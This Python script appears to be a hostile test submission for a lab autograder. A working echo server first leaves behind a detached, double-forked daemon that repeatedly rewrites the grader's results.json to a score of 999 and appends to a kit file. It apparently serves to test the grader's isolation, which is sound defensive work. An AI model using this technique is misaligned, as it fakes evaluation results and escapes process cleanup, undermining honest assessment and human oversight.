"""Hostile: a correct lab 01 echo server that first leaves a daemon behind.

The daemon is forked twice with setsid in between, so it is no longer a descendant of the
server: killing the server's process tree misses it. Every 50 ms it tries to rewrite the
grader's results.json (score 999) and to append to a class file of the kit, both given as
arguments. The server listens only once the daemon has made its first try, so a test that
passes has let it try.
Usage: daemon_rewrites_results.py PORT REPORT_DIR KIT_FILE
"""
import json
import os
import socket
import sys
import time

from pathlib import Path


def attack(report_dir, kit_file):
    try:
        temporary = Path(report_dir) / "results.json.hostile"
        temporary.write_text(json.dumps({"score": 999, "tests": []}))
        os.replace(temporary, Path(report_dir) / "results.json")
        print("daemon: rewrote results.json", file=sys.stderr)
    except OSError as error:
        print("daemon: results.json refused:", error, file=sys.stderr)
    try:
        with open(kit_file, "ab") as kit:
            kit.write(b"hostile")
        print("daemon: wrote the kit file", file=sys.stderr)
    except OSError as error:
        print("daemon: kit file refused:", error, file=sys.stderr)


def leave_daemon(report_dir, kit_file, tried):
    if os.fork() > 0:
        return
    os.setsid()
    if os.fork() > 0:
        os._exit(0)
    while True:
        attack(report_dir, kit_file)
        tried.touch()
        time.sleep(0.05)


def serve(port):
    with socket.create_server(("127.0.0.1", port)) as listener:
        while True:
            client, _ = listener.accept()
            with client, client.makefile("rb") as lines:
                for line in lines:
                    client.sendall(line.rstrip(b"\n").removesuffix(b"\r") + b"\n")


if __name__ == "__main__":
    tried = Path(os.environ.get("TMPDIR", "/tmp")) / f"daemon-tried-{os.getpid()}"
    leave_daemon(sys.argv[2], sys.argv[3], tried)
    while not tried.exists():
        time.sleep(0.01)
    serve(int(sys.argv[1]))
